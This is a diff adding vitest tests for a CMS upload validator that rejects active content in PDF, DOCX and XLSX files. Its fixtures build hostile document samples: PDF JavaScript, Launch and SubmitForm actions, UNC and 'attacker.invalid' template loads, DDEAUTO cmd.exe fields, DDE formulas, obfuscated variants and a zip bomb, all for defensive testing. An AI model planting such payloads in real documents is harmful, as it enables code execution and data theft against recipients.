@@ -1,4 +1,4 @@
-import { deflateSync } from 'node:zlib';
+import { deflateRawSync, deflateSync } from 'node:zlib';
 import sharp from 'sharp';
 import { describe, expect, it } from 'vitest';
 import {
@@ -13,6 +13,7 @@ import {
   type UploadInput,
   type UploadRejectionCode,
 } from '../../cms/lib/upload-validation';
+import { makeDemoPdf } from '../../cms/seed/demo-files';
 
 // ---------------------------------------------------------------------------
 // Fixture builders: every input is made here, in code, with real encoders or by hand.
@@ -30,31 +31,33 @@ function crc32(buf: Buffer): number {
 }
 
 /** Minimal ZIP writer, "stored" (no compression), with local headers + central directory + EOCD. */
-function makeZip(files: Record<string, string | Buffer>): Buffer {
+function makeZip(files: Record<string, string | Buffer>, { deflate = false }: { deflate?: boolean } = {}): Buffer {
   const locals: Buffer[] = [];
   const centrals: Buffer[] = [];
   let offset = 0;
   for (const [name, content] of Object.entries(files)) {
-    const data = Buffer.isBuffer(content) ? content : Buffer.from(content, 'utf8');
+    const raw = Buffer.isBuffer(content) ? content : Buffer.from(content, 'utf8');
+    const data = deflate ? deflateRawSync(raw) : raw;
     const nameBuf = Buffer.from(name, 'utf8');
-    const crc = crc32(data);
+    const crc = crc32(raw);
     const local = Buffer.alloc(30);
     local.writeUInt32LE(0x04034b50, 0);
     local.writeUInt16LE(20, 4); // version needed
     local.writeUInt16LE(0x0800, 6); // flags: UTF-8 names
-    local.writeUInt16LE(0, 8); // method: stored
+    local.writeUInt16LE(deflate ? 8 : 0, 8); // method: deflate or stored
     local.writeUInt32LE(crc, 14);
     local.writeUInt32LE(data.length, 18);
-    local.writeUInt32LE(data.length, 22);
+    local.writeUInt32LE(raw.length, 22);
     local.writeUInt16LE(nameBuf.length, 26);
     const central = Buffer.alloc(46);
     central.writeUInt32LE(0x02014b50, 0);
     central.writeUInt16LE(20, 4);
     central.writeUInt16LE(20, 6);
     central.writeUInt16LE(0x0800, 8);
+    central.writeUInt16LE(deflate ? 8 : 0, 10);
     central.writeUInt32LE(crc, 16);
     central.writeUInt32LE(data.length, 20);
-    central.writeUInt32LE(data.length, 24);
+    central.writeUInt32LE(raw.length, 24);
     central.writeUInt16LE(nameBuf.length, 28);
     central.writeUInt32LE(offset, 42);
     locals.push(local, nameBuf, data);
@@ -74,22 +77,23 @@ function makeZip(files: Record<string, string | Buffer>): Buffer {
 const XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>';
 const RELS = `${XML}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">`;
 
-function makeDocx(extra: Record<string, string> = {}): Buffer {
+function makeDocx(extra: Record<string, string | Buffer> = {}, options: { deflate?: boolean } = {}): Buffer {
   return makeZip({
     '[Content_Types].xml': `${XML}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`,
     '_rels/.rels': `${RELS}<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>`,
     'word/document.xml': `${XML}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Thông báo</w:t></w:r></w:p></w:body></w:document>`,
     ...extra,
-  });
+  }, options);
 }
 
-function makeXlsx(): Buffer {
+function makeXlsx(extra: Record<string, string | Buffer> = {}): Buffer {
   return makeZip({
     '[Content_Types].xml': `${XML}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>`,
     '_rels/.rels': `${RELS}<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
     'xl/workbook.xml': `${XML}<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>`,
     'xl/_rels/workbook.xml.rels': `${RELS}<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
     'xl/worksheets/sheet1.xml': `${XML}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>1</t></is></c></row></sheetData></worksheet>`,
+    ...extra,
   });
 }
 
@@ -323,15 +327,15 @@ describe('validateUpload: PDF active content', () => {
     await expect(validateUpload(upload(makePlainPdf()))).resolves.toMatchObject({ kind: 'pdf' });
   });
 
-  it('refuses /JavaScript, /JS and /Launch actions, saying so', async () => {
-    for (const action of [
-      '<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>',
-      '<< /Type /Action /S /Launch /F (cmd.exe) >>',
-      '<< /Type /Action /JS 7 0 R >>',
-    ]) {
+  it('refuses /JavaScript, /JS and /Launch actions, naming what it found', async () => {
+    for (const [action, named] of [
+      ['<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>', 'JavaScript'],
+      ['<< /Type /Action /S /Launch /F (cmd.exe) >>', 'Launch'],
+      ['<< /Type /Action /JS 7 0 R >>', 'JavaScript (/JS)'],
+    ] as const) {
       const err = await expectRejected(upload(makePdfWithOpenAction(action)), 'pdf-active-content');
-      expect(err.messageVi).toContain('JavaScript');
-      expect(err.messageVi).toContain('Launch');
+      expect(err.messageVi).toMatch(/^Tệp tải lên: tệp PDF chứa /);
+      expect(err.messageVi).toContain(named);
     }
   });
 
@@ -422,5 +426,254 @@ describe('stripAndNormalizeImage', () => {
     expect([sniffKind(p), sniffKind(w)]).toEqual(['png', 'webp']);
     expect((await sharp(p).metadata()).exif).toBeUndefined();
     expect((await sharp(w).metadata()).exif).toBeUndefined();
+  });
+});
+
+// ---------------------------------------------------------------------------
+// Active content (issue 9, item 10): every class, hidden the ways readers still read it.
+// ---------------------------------------------------------------------------
+
+/** A PDF whose catalog carries `catalogExtra`, with `extra` objects numbered from 6. */
+const pdfWith = (catalogExtra: string, extra: (string | Buffer)[] = []) =>
+  makePdf([`<< /Type /Catalog /Pages 2 0 R ${catalogExtra} >>`, ...PLAIN_PDF_OBJECTS.slice(1), ...extra]);
+/** Page 3 with annotations (object 6 onwards). */
+const pdfWithAnnots = (annots: string[]) =>
+  makePdf([
+    PLAIN_PDF_OBJECTS[0]!,
+    PLAIN_PDF_OBJECTS[1]!,
+    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Annots [${annots.map((_, i) => `${6 + i} 0 R`).join(' ')}] >>`,
+    PLAIN_PDF_OBJECTS[3]!,
+    PLAIN_PDF_OBJECTS[4]!,
+    ...annots,
+  ]);
+/** An object stream holding `objects` (numbered from `first`), compressed as asked. */
+const objStm = (objects: string[], first: number, { dict = '/Type /ObjStm', encode = (b: Buffer) => deflateSync(b), filter = '/Filter /FlateDecode' } = {}) => {
+  let header = '';
+  let body = '';
+  objects.forEach((o, i) => {
+    header += `${first + i} ${body.length} `;
+    body += `${o}\n`;
+  });
+  const content = Buffer.from(header + body, 'latin1');
+  return streamObj(`${dict} /N ${objects.length} /First ${header.length} ${filter}`, encode(content));
+};
+/** `name` written with every letter hex-escaped, as a reader still reads it. */
+const hexName = (name: string) => `/${[...name].map((c) => `#${c.charCodeAt(0).toString(16)}`).join('')}`;
+
+describe('validateUpload: PDF active content, every class', () => {
+  const upload = (buffer: Buffer) => ({ buffer, filename: 'van-ban.pdf', mimetype: 'application/pdf' });
+  const refused = async (buffer: Buffer, named: string | RegExp, code: UploadRejectionCode = 'pdf-active-content') => {
+    const err = await expectRejected(upload(buffer), code);
+    expect(err.messageVi).toMatch(/^Tệp tải lên: /);
+    if (typeof named === 'string') expect(err.messageVi).toContain(named);
+    else expect(err.messageVi).toMatch(named);
+    return err;
+  };
+
+  const ACTIONS: [string, string][] = [
+    ['<< /S /JavaScript /JS (this.submitForm\\("https://x.invalid"\\)) >>', 'JavaScript'],
+    ['<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>', 'Launch'],
+    ['<< /S /SubmitForm /F << /FS /URL /F (https://x.invalid/collect) >> /Flags 4 >>', 'SubmitForm'],
+    ['<< /S /ImportData /F (C:\\\\data.fdf) >>', 'ImportData'],
+    ['<< /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\x.pdf) /D [0 /Fit] >>', 'GoToR'],
+    ['<< /S /GoToE /T << /R /C /N (payload.pdf) >> >>', 'GoToE'],
+    ['<< /S /Rendition /R 7 0 R >>', 'Rendition'],
+  ];
+  for (const [action, named] of ACTIONS) {
+    it(`refuses a ${named} action as the open action, plain and hex-escaped`, async () => {
+      await refused(pdfWith('/OpenAction 6 0 R', [action]), named);
+      const escaped = action.replace(/\/S \/(\w+)/, (_, n: string) => `/S ${hexName(n)}`);
+      await refused(pdfWith('/OpenAction 6 0 R', [escaped]), named);
+    });
+  }
+
+  it('refuses an automatic URI open (OpenAction and a page /AA), but not a clicked https link', async () => {
+    await refused(pdfWith('/OpenAction << /S /URI /URI (https://tracker.invalid/open) >>'), '/URI');
+    await refused(pdfWith('/AA << /WC << /S /URI /URI (https://x.invalid) >> >>'), '/URI');
+    await refused(pdfWith('/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://x.invalid) >> >>'), '/URI');
+    const link = pdfWithAnnots(['<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A << /S /URI /URI (https://angiang.gov.vn/) >> >>']);
+    await expect(validateUpload(upload(link))).resolves.toMatchObject({ kind: 'pdf' });
+  });
+
+  it('refuses a clicked link to javascript:, file: or a UNC path', async () => {
+    for (const uri of ['(javascript:app.alert\\(1\\))', '(file:///C:/Windows/System32/calc.exe)', '(\\\\\\\\attacker\\\\share)', '<6A617661736372697074 3A616C6572742831 29>']) {
+      await refused(pdfWithAnnots([`<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A << /S /URI /URI ${uri} >> >>`]), 'liên kết không an toàn');
+    }
+  });
+
+  it('refuses XFA forms, embedded files, file attachments, rich media and 3D', async () => {
+    await refused(pdfWith('/AcroForm << /Fields [] /XFA 6 0 R >>', [streamObj('', Buffer.from('<xdp:xdp><script>xfa.host.messageBox(1)</script></xdp:xdp>'))]), 'XFA');
+    await refused(pdfWith('/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>', ['<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>', streamObj('/Type /EmbeddedFile', Buffer.from('MZ\x90\x00'))]), 'tệp nhúng');
+    await refused(pdfWithAnnots(['<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS << /F (setup.exe) >> >>']), 'tệp đính kèm');
+    await refused(pdfWithAnnots(['<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >>']), 'RichMedia');
+    await refused(pdfWithAnnots(['<< /Type /Annot /Subtype /3D /Rect [0 0 10 10] >>']), '3D');
+  });
+
+  it('finds actions in object streams: without /Type, with an array filter and a PNG predictor, through ASCIIHex', async () => {
+    const js = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
+    await refused(pdfWith('/OpenAction 6 0 R', [objStm([js], 6, { dict: '' })]), 'JavaScript');
+    const png = (b: Buffer) => {
+      const columns = 4;
+      const rows: Buffer[] = [];
+      for (let i = 0; i < b.length; i += columns) rows.push(Buffer.concat([Buffer.from([0]), b.subarray(i, i + columns), Buffer.alloc(Math.max(0, i + columns - b.length))]));
+      return deflateSync(Buffer.concat(rows));
+    };
+    await refused(pdfWith('/OpenAction 6 0 R', [objStm([js], 6, { encode: png, filter: '/Filter [/FlateDecode] /DecodeParms [<< /Predictor 12 /Columns 4 >>]' })]), 'JavaScript');
+    await refused(pdfWith('', [objStm(['<< /S /Launch /F (x) >>'], 6, { encode: (b) => Buffer.from(`${deflateSync(b).toString('hex')}>`), filter: '/Filter [/ASCIIHexDecode /FlateDecode]' })]), 'Launch');
+    // An automatic URI resolved through an object stream: the catalog points into it.
+    await refused(pdfWith('/OpenAction 6 0 R', [objStm(['<< /S /URI /URI (https://x.invalid) >>'], 6)]), '/URI');
+  });
+
+  it('refuses object streams it cannot read: an unknown filter, an encrypted file, corrupt data', async () => {
+    await refused(pdfWith('', [objStm(['<< /Type /Foo >>'], 6, { encode: (b) => b, filter: '/Filter /LZWDecode' })]), 'không kiểm tra được', 'uninspectable');
+    const encrypted = Buffer.concat([pdfWith('', [objStm(['<< /Type /Foo >>'], 6)]), Buffer.from('trailer\n<< /Size 8 /Root 1 0 R /Encrypt << /Filter /Standard /V 2 >> >>\n', 'latin1')]);
+    await refused(encrypted, 'không kiểm tra được', 'uninspectable');
+    await refused(pdfWith('', [objStm(['<< /Type /Foo >>'], 6, { encode: (b) => Buffer.concat([Buffer.from([0x78, 0x9c]), b]) })]), 'không kiểm tra được', 'uninspectable');
+  });
+
+  it('finds an action added by an incremental update', async () => {
+    const base = makePlainPdf();
+    const update = `1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 9 0 R >>\nendobj\n9 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj\nxref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 10 /Root 1 0 R /Prev 0 >>\nstartxref\n${base.length}\n%%EOF\n`;
+    await refused(Buffer.concat([base, Buffer.from(update, 'latin1')]), 'JavaScript');
+  });
+
+  it('finds an object hidden inside another object’s stream data or string, and headers split by comments or long spaces', async () => {
+    // A reader jumps to the xref offset of object 9, which lies inside object 6's stream.
+    const hiddenInStream = streamObj('', Buffer.from('9 0 obj << /S /JavaScript /JS (app.alert\\(1\\)) >> endobj', 'latin1'));
+    await refused(pdfWith('/OpenAction 9 0 R', [hiddenInStream]), 'JavaScript');
+    await refused(pdfWith('/OpenAction 9 0 R', ['<< /Title (9 0 obj << /S /Launch /F (x) >> endobj) >>']), 'Launch');
+    await refused(pdfWith('/OpenAction 9 0 R', [`<< /Type /Foo >>\nendobj\n9 %c\n0 % more\nobj << /S /ImportData /F (x) >>`]), 'ImportData');
+    await refused(pdfWith('/OpenAction 9 0 R', [`<< /Type /Foo >>\nendobj\n9${' '.repeat(5000)}0${'\n'.repeat(5000)}obj << /S /SubmitForm /F (x) >>`]), 'SubmitForm');
+  });
+
+  it('refuses pathological nesting quickly', async () => {
+    const deep = pdfWith('', [`${'['.repeat(10_000)}${']'.repeat(10_000)}`]);
+    const t0 = performance.now();
+    await refused(deep, 'không kiểm tra được', 'uninspectable');
+    expect(performance.now() - t0).toBeLessThan(1000);
+  });
+
+  it('accepts ordinary PDFs: the demo documents, a destination open action, a clicked https/mailto link, an image that happens to hold "/JS"', async () => {
+    await expect(validateUpload(upload(makeDemoPdf(['Quyết định số 12/QĐ-UBND', 'Về việc công bố thủ tục hành chính (bản thử)'])))).resolves.toMatchObject({ kind: 'pdf' });
+    await expect(validateUpload(upload(pdfWith('/OpenAction [3 0 R /XYZ null null 0] /PageMode /UseOutlines')))).resolves.toMatchObject({ kind: 'pdf' });
+    await expect(validateUpload(upload(pdfWith('/OpenAction << /S /GoTo /D [3 0 R /Fit] >>')))).resolves.toMatchObject({ kind: 'pdf' });
+    const links = pdfWithAnnots(['<< /Type /Annot /Subtype /Link /Rect [0 0 1 1] /A << /S /URI /URI (mailto:vanphong@angiang.gov.vn) >> >>', '<< /Type /Annot /Subtype /Link /Rect [0 0 1 1] /Dest [3 0 R /Fit] >>']);
+    await expect(validateUpload(upload(links))).resolves.toMatchObject({ kind: 'pdf' });
+    const harmlessObjStm = objStm(['<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'], 6, { filter: '/Filter [/FlateDecode] /DecodeParms [null]' });
+    await expect(validateUpload(upload(pdfWith('', [harmlessObjStm])))).resolves.toMatchObject({ kind: 'pdf' });
+  });
+});
+
+const REL = (id: string, type: string, target: string, external = false) =>
+  `<Relationship Id="${id}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}"${external ? ' TargetMode="External"' : ''}/>`;
+const rels = (...list: string[]) => `${RELS}${list.join('')}</Relationships>`;
+const wordBody = (inner: string) =>
+  `${XML}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:body><w:p>${inner}</w:p></w:body></w:document>`;
+const run = (instr: string) => `<w:r><w:instrText xml:space="preserve">${instr}</w:instrText></w:r>`;
+const field = (...instrs: string[]) => `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${instrs.map(run).join('')}<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`;
+const sheet = (cells: string) => `${XML}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">${cells}</row></sheetData></worksheet>`;
+
+describe('validateUpload: Office active content, every class', () => {
+  const docx = (buffer: Buffer) => ({ buffer, filename: 'van-ban.docx', mimetype: ALLOWED_UPLOADS.docx.mimeType });
+  const xlsx = (buffer: Buffer) => ({ buffer, filename: 'bang.xlsx', mimetype: ALLOWED_UPLOADS.xlsx.mimeType });
+  const refused = async (input: UploadInput, named: string, code: UploadRejectionCode = 'office-active-content') => {
+    const err = await expectRejected(input, code);
+    expect(err.messageVi).toMatch(/^Tệp tải lên: (tệp (DOCX|XLSX) chứa|không kiểm tra được)/);
+    expect(err.messageVi).toContain(named);
+    return err;
+  };
+
+  it('refuses macros however they are named: vbaProject, a macro-enabled content type, percent-encoded names, Excel 4.0 sheets', async () => {
+    await refused(docx(makeDocx({ 'word/vbaProject.bin': 'VBA' }, { deflate: true })), 'macro', 'office-macros');
+    await refused(docx(makeDocx({ 'word/v%62aProject.bin': 'VBA' })), 'macro', 'office-macros');
+    const macroType = makeDocx({ '[Content_Types].xml': `${XML}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>` });
+    await refused(docx(macroType), 'macro', 'office-macros');
+    await refused(docx(makeDocx({ 'word/_rels/document.xml.rels': rels(`<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="hidden.dat"/>`) })), 'macro', 'office-macros');
+    await refused(xlsx(makeXlsx({ 'xl/macrosheets/sheet1.xml': '<xm:macrosheet/>' })), 'macro', 'office-macros');
+  });
+
+  it('refuses an external template (attachedTemplate, also with an odd TargetMode case) and other external loads', async () => {
+    await refused(docx(makeDocx({ 'word/_rels/settings.xml.rels': rels(REL('rId1', 'attachedTemplate', 'https://attacker.invalid/t.dotm', true)) })), 'mẫu (template)');
+    await refused(docx(makeDocx({ 'word/_rels/settings.xml.rels': rels(REL('rId1', 'attachedTemplate', 'file:///C:/t.dotm').replace('/>', ' TargetMode="external"/>')) })), 'mẫu (template)');
+    await refused(docx(makeDocx({ 'word/_rels/webSettings.xml.rels': rels(REL('rId1', 'frame', 'https://attacker.invalid/f.docx', true)) })), 'frame');
+    await refused(docx(makeDocx({ 'word/_rels/document.xml.rels': rels(REL('rId1', 'subDocument', '\\\\attacker\\share\\s.docx', true)) })), 'subDocument');
+    await refused(docx(makeDocx({ 'word/_rels/document.xml.rels': rels(REL('rId1', 'image', 'https://tracker.invalid/pixel.png', true)) })), 'bên ngoài (image)');
+    await refused(docx(makeDocx({ 'word/_rels/document.xml.rels': rels(REL('rId1', 'aFChunk', 'chunk.rtf')) })), 'altChunk');
+  });
+
+  it('refuses OLE objects, ActiveX and embedded programs in DOCX and XLSX', async () => {
+    await refused(docx(makeDocx({ 'word/embeddings/oleObject1.bin': Buffer.from([0xd0, 0xcf, 0x11, 0xe0]) })), 'đối tượng nhúng');
+    await refused(docx(makeDocx({ 'word/embeddings/setup.exe': 'MZ' })), 'đối tượng nhúng');
+    await refused(docx(makeDocx({ 'word/activeX/activeX1.xml': '<ax:ocx/>' })), 'ActiveX');
+    await refused(docx(makeDocx({ 'word/_rels/document.xml.rels': rels(REL('rId5', 'oleObject', 'embeddings/x.dat')) })), 'OLE');
+    await refused(xlsx(makeXlsx({ 'xl/embeddings/oleObject1.bin': 'OLE' })), 'đối tượng nhúng');
+    await refused(xlsx(makeXlsx({ 'xl/activeX/activeX1.bin': 'AX' })), 'ActiveX');
+    await refused(xlsx(makeXlsx({ 'xl/_rels/workbook.xml.rels': rels(REL('rId3', 'control', '../activeX/a.xml')) })), 'ActiveX');
+  });
+
+  it('refuses external workbook links, data connections, web queries and customUI in XLSX', async () => {
+    await refused(xlsx(makeXlsx({ 'xl/externalLinks/externalLink1.xml': '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>' })), 'bên ngoài');
+    await refused(xlsx(makeXlsx({ 'xl/connections.xml': '<connections/>' })), 'kết nối dữ liệu');
+    await refused(xlsx(makeXlsx({ 'xl/queryTables/queryTable1.xml': '<queryTable/>' })), 'truy vấn');
+    await refused(xlsx(makeXlsx({ 'customUI/customUI14.xml': '<customUI onLoad="Boom"/>' })), 'customUI');
+  });
+
+  it('refuses DDE fields: DDEAUTO, split over runs, in fldSimple, behind entities, CDATA and UTF-16', async () => {
+    const ddeDoc = (xml: string | Buffer) => docx(makeDocx({ 'word/document.xml': xml }));
+    await refused(ddeDoc(wordBody(field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'))), 'DDE');
+    await refused(ddeDoc(wordBody(field(' D', 'DE', 'AUTO "c:\\\\x.exe" '))), 'DDE');
+    await refused(ddeDoc(wordBody(`<w:fldSimple w:instr=" DDE cmd &quot;/c calc&quot; "><w:r><w:t>x</w:t></w:r></w:fldSimple>`)), 'DDE');
+    await refused(ddeDoc(wordBody(field('&#68;&#x44;E cmd "/c calc"'))), 'DDE');
+    await refused(ddeDoc(wordBody(field('<![CDATA[ddeauto]]> cmd'))), 'DDE');
+    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(wordBody(field('DDEAUTO cmd')).replace('UTF-8', 'UTF-16'), 'utf16le')]);
+    await refused(ddeDoc(utf16), 'DDE');
+    await refused(docx(makeDocx({ 'word/header1.xml': wordBody(field('DDE cmd')) })), 'DDE');
+  });
+
+  it('refuses DDE formulas in XLSX cells and defined names', async () => {
+    await refused(xlsx(makeXlsx({ 'xl/worksheets/sheet1.xml': sheet(`<c r="A1"><f>cmd|' /C calc'!A0</f></c>`) })), 'DDE');
+    await refused(xlsx(makeXlsx({ 'xl/worksheets/sheet1.xml': sheet(`<c r="A1"><f>=MSEXCEL&#124;'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''</f></c>`) })), 'DDE');
+    const workbook = `${XML}<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><definedNames><definedName name="x">cmd|'/c calc'!A1</definedName></definedNames></workbook>`;
+    await refused(xlsx(makeXlsx({ 'xl/workbook.xml': workbook })), 'DDE');
+  });
+
+  it('refuses hyperlinks to file:, javascript: or UNC paths', async () => {
+    for (const target of ['file:///C:/Windows/System32/calc.exe', 'javascript:alert(1)', '\\\\attacker\\share\\x', ' &#106;avascript:alert(1)']) {
+      await refused(docx(makeDocx({ 'word/_rels/document.xml.rels': rels(REL('rId7', 'hyperlink', target, true)) })), 'liên kết không an toàn');
+    }
+  });
+
+  it('checks embedded packages too (a chart’s workbook carrying macros), one level deep', async () => {
+    await refused(docx(makeDocx({ 'word/embeddings/Microsoft_Excel_Worksheet.xlsx': makeXlsx({ 'xl/vbaProject.bin': 'VBA' }) })), 'trong một tài liệu nhúng', 'office-macros');
+    const nested = makeXlsx({ 'xl/embeddings/inner.docx': makeDocx() });
+    await refused(docx(makeDocx({ 'word/embeddings/outer.xlsx': nested })), 'đối tượng nhúng');
+  });
+
+  it('refuses what it cannot read: a legacy .doc/.xls (OLE) renamed .docx, duplicate parts, a bomb part', async () => {
+    const ole = Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(504)]);
+    const err = await expectRejected(docx(ole), 'office-legacy');
+    expect(err.messageVi).toMatch(/^Tệp tải lên: tệp Office định dạng cũ \(\.doc, \.xls\)/);
+    await expectRejected(xlsx(ole), 'office-legacy');
+    const dup = makeZip({ '[Content_Types].xml': '<Types/>', 'word/document.xml': wordBody(''), 'word/Document.xml': wordBody(field('DDEAUTO x')) });
+    await refused(docx(dup), 'cùng tên', 'uninspectable');
+    const bomb = makeDocx({ 'word/document.xml': Buffer.alloc(130 * 1024 * 1024, 0x20) }, { deflate: true });
+    expect(bomb.length).toBeLessThan(1024 * 1024);
+    await refused(docx(bomb), 'không đọc được', 'uninspectable');
+  });
+
+  it('accepts ordinary documents: hyperlinks, a HYPERLINK field, a chart’s workbook, formulas with "|" inside strings, printer settings', async () => {
+    const ordinary = makeDocx(
+      {
+        'word/document.xml': wordBody(`${field(' HYPERLINK "https://angiang.gov.vn/dde" ')}${field(' PAGE ')}<w:fldSimple w:instr=" DATE \\@ &quot;dd/MM/yyyy&quot; "/>`),
+        'word/_rels/document.xml.rels': rels(REL('rId1', 'hyperlink', 'https://dichvucong.gov.vn/', true), REL('rId2', 'hyperlink', 'mailto:ubnd@angiang.gov.vn', true), REL('rId3', 'image', 'media/image1.png'), REL('rId4', 'chart', 'charts/chart1.xml')),
+        'word/charts/_rels/chart1.xml.rels': rels(REL('rId1', 'package', '../embeddings/Microsoft_Excel_Worksheet.xlsx')),
+        'word/embeddings/Microsoft_Excel_Worksheet.xlsx': makeXlsx(),
+        'word/printerSettings/printerSettings1.bin': Buffer.alloc(64, 1),
+      },
+      { deflate: true },
+    );
+    await expect(validateUpload(docx(ordinary))).resolves.toMatchObject({ kind: 'docx' });
+    const formulas = makeXlsx({ 'xl/worksheets/sheet1.xml': sheet(`<c r="A1"><f>SUM(B1:B3)</f></c><c r="A2"><f>CONCAT("a|b","c")</f></c><c r="A3"><f>'Thu|Chi'!A1</f></c>`), 'xl/printerSettings/printerSettings1.bin': 'P' });
+    await expect(validateUpload(xlsx(formulas))).resolves.toMatchObject({ kind: 'xlsx' });
   });
 });
